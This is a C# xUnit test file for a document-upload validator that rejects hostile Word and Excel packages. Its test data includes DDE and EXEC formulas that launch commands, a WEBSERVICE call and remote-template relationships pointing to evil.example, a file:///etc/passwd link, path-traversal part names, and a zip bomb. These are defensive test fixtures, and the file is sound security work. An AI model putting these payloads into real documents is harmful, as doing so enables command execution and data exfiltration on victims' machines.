using System.Text;
using DonorBridge.Documents.Packages;
using DonorBridge.Documents.Tests.Templates;
using Xunit;

namespace DonorBridge.Documents.Tests.Packages;

public class SafePackageTests
{
    private const string Types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"/>";

    public static TheoryData<string, string, string> Hostile => new()
    {
        { "word/vbaProject.bin", "x", "it holds macros" },
        { "word/embeddings/oleObject1.bin", "x", "embedded object" },
        { "xl/externalLinks/externalLink1.xml", "<x/>", "reach into other workbooks" },
        { "../outside.xml", "<x/>", "leads out of the file" },
        { "word/document.xml", "<!DOCTYPE x [<!ENTITY a \"b\">]><x>&a;</x>", "declares a document type" },
        { "word/document.xml", "<x", "is not well-formed" },
        { "word/document.xml", "<w:document xmlns:w=\"w\"><w:instrText>DDEAUTO c:\\\\x</w:instrText></w:document>", "runs or fetches something (DDEAUTO)" },
        { "word/document.xml", "<w:document xmlns:w=\"w\"><w:fldSimple w:instr=\" INCLUDETEXT file \"/></w:document>", "INCLUDETEXT" },
        { "word/document.xml", W("<w:fldChar w:fldCharType=\"begin\"/><w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\x</w:instrText><w:fldChar w:fldCharType=\"separate\"/><w:fldChar w:fldCharType=\"end\"/>"), "(DDEAUTO)" },
        { "word/document.xml", W("<w:fldChar w:fldCharType=\"begin\"/><w:fldChar w:fldCharType=\"begin\"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType=\"end\"/><w:fldChar w:fldCharType=\"end\"/>"), "whose name another field makes" },
        { "word/document.xml", W("<w:altChunk/>"), "altChunk" },
        { "word/activeX/activeX1.xml", "<x/>", "embedded object" },
        { "xl/macrosheets/sheet1.xml", "<x/>", "macro sheet" },
        { "xl/connections.xml", "<x/>", "data connection" },
        { "xl/worksheets/sheet1.xml", "<worksheet><c><f>cmd|' /C calc'!A0</f></c></worksheet>", "(DDE)" },
        { "xl/worksheets/sheet1.xml", "<worksheet><c><f>_xlfn.WEBSERVICE (\"http://evil.example\")</f></c></worksheet>", "(WEBSERVICE)" },
        { "xl/workbook.xml", "<workbook><definedName>EXEC(\"calc\")</definedName></workbook>", "(EXEC)" },
        { "xl/worksheets/sheet1.xml", "<worksheet><oleObjects><oleObject/></oleObjects></worksheet>", "(oleObject)" },
        { "C:/windows/x.xml", "<x/>", "leads out of the file" },
        { "word/document.xml", "<x>\u0001</x>", "is not well-formed" },
        { "xl/workbook.xml", Sheet("<workbookPr/>"), "names no sheet" },
        { "xl/workbook.xml", Sheet("<sheet sheetId='1' r:id='a'/>"), "a sheet without name" },
        { "xl/workbook.xml", Sheet("<sheet name='A' sheetId='1'/>"), "a sheet without id" },
        { "xl/workbook.xml", Sheet("<sheet name='A' sheetId='1' r:id='a'/><sheet name='a' sheetId='2' r:id='b'/>"), "two sheet called 'a'" },
        { "xl/worksheets/sheet1.xml", Sheet("<c s='abc'/>"), "a c whose s is no number" },
        { "xl/worksheets/sheet1.xml", Sheet("<col max='2'/>"), "a col without min" },
        { "xl/styles.xml", Sheet("<numFmt numFmtId='164'/><numFmt numFmtId='164'/>"), "two numFmt called '164'" },
        { "xl/_rels/workbook.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id='a' Target='x'/><Relationship Id='a' Target='y'/></Relationships>", "two Relationship called 'a'" },
        { "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/image\" Target=\"http://evil.example/a.png\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
        { "word/_rels/settings.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/attachedTemplate\" Target=\"http://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
        { "word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"file:///etc/passwd\" TargetMode=\"External\"/></Relationships>", "points to something outside the file" },
    };

    [Theory, MemberData(nameof(Hostile))]
    public void A_hostile_file_is_refused_with_the_reason(string part, string content, string reason) =>
        Assert.Contains(reason, Refused(Zip((part, content))));

    [Fact]
    public void A_bomb_of_zeros_is_refused_before_it_is_unpacked() =>
        Assert.Contains("as a ZIP bomb does", Refused(WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes(Types)), ("word/media/zero.png", new byte[200 * 1024 * 1024])])));

    [Fact]
    public void A_truncated_file_is_refused()
    {
        var whole = Zip(("word/document.xml", "<x/>"));

        Assert.Contains("no complete ZIP", Refused(whole[..(whole.Length / 2)]));
    }

    [Fact]
    public void A_macro_enabled_file_is_refused_by_its_type() =>
        Assert.Contains("macro-enabled", Refused(WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes("<Types><Override ContentType=\"application/vnd.ms-word.document.macroEnabled.main+xml\"/></Types>"))])));

    [Fact]
    public void A_link_to_a_page_is_let_through() =>
        Assert.NotNull(SafePackage.Open(Zip(("word/_rels/document.xml.rels", "<Relationships><Relationship Id=\"a\" Type=\"http://x/hyperlink\" Target=\"https://example.org/\" TargetMode=\"External\"/></Relationships>")), "form.docx"));

    [Theory, InlineData("IF(A1=\"a|b\",'x|y'!A1,SUM(A1:A2))"), InlineData("RECALL(1)")]
    public void A_formula_that_only_counts_is_let_through(string formula) =>
        Assert.NotNull(SafePackage.Open(Zip(("xl/worksheets/sheet1.xml", Sheet($"<sheetData><row r=\"1\"><c r=\"A1\"><f>{formula}</f></c></row></sheetData>"))), "form.xlsx"));

    private static string Sheet(string content) =>
        $"<x xmlns='http://schemas.openxmlformats.org/spreadsheetml/2006/main' xmlns:r='http://schemas.openxmlformats.org/officeDocument/2006/relationships'>{content}</x>";

    private static string W(string inside) => $"<w:document xmlns:w=\"w\">{inside}</w:document>";

    private static byte[] Zip((string Part, string Content) part) =>
        WordPackage.Zip([("[Content_Types].xml", Encoding.UTF8.GetBytes(Types)), (part.Part, Encoding.UTF8.GetBytes(part.Content))]);

    private static string Refused(byte[] file) => Assert.Throws<RefusedFileException>(() => SafePackage.Open(file, "form.docx")).Message;
}
